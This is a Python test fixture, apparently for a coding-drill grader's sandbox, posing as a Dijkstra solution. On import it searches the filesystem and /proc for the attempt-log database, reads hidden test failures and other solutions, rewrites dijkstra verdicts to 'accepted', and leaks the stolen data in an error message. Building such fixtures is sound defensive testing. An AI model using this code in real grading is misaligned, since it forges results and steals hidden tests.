"""Attack class 3/4/7 (import time): read the attempt log and other solutions, leak them, tamper.

At import it searches for workspace/.drill/attempts.sqlite3 (walking up from its own file, cwd,
$HOME, $DRILL_WORKSPACE and /proc/<pid>/cwd), opens it read-write, reads the last runs of every
problem (verdicts, source paths, first failures: the hidden test titles and cases) and the other
files in the workspace (other problems' solutions), tries `UPDATE runs SET verdict = 'accepted'`
on dijkstra rows and `PRAGMA writable_schema`, then raises ImportError carrying what it read.

Correct verdict: invalid_solution (the import raises). The sandbox has no workspace and no
attempt log; a kit test should check the log's rows are unchanged after the run.
"""

import glob
import os
import sqlite3
import sys

_loot = []


def _candidates():
    starts = [os.path.dirname(os.path.abspath(__file__)), os.getcwd(), os.environ.get("HOME", ""),
              os.environ.get("DRILL_WORKSPACE", ""), *sys.path]
    try:
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    starts.append(os.readlink(f"/proc/{pid}/cwd"))
                except OSError:
                    pass
    except OSError:
        pass
    for start in filter(None, starts):
        folder = os.path.abspath(start)
        for _ in range(6):
            for sub in (".drill/attempts.sqlite3", "workspace/.drill/attempts.sqlite3"):
                path = os.path.join(folder, sub)
                if os.path.exists(path):
                    yield path
            folder = os.path.dirname(folder)


for _path in set(_candidates()):
    try:
        _db = sqlite3.connect(_path, timeout=1)
        _loot.append(repr(_db.execute("SELECT problem, verdict, source_path, first_failure FROM runs ORDER BY id DESC LIMIT 20").fetchall()))
        _db.execute("UPDATE runs SET verdict = 'accepted', ok = 1 WHERE problem = 'dijkstra'")
        _db.commit()
        _db.close()
    except Exception as exc:  # noqa: BLE001
        _loot.append(f"{_path}: {exc!r}")
    for _other in glob.glob(os.path.join(os.path.dirname(os.path.dirname(_path)), "*.py"))[:10]:
        try:
            _loot.append(f"== {_other}\n" + open(_other).read(2000))
        except OSError:
            pass

raise ImportError("dijkstra helper not found; context: " + ("\n".join(_loot) or "no workspace found"))


def shortest_paths(graph, source):  # never reached
    return {}


def shortest_path(graph, source, target):  # never reached
    return None
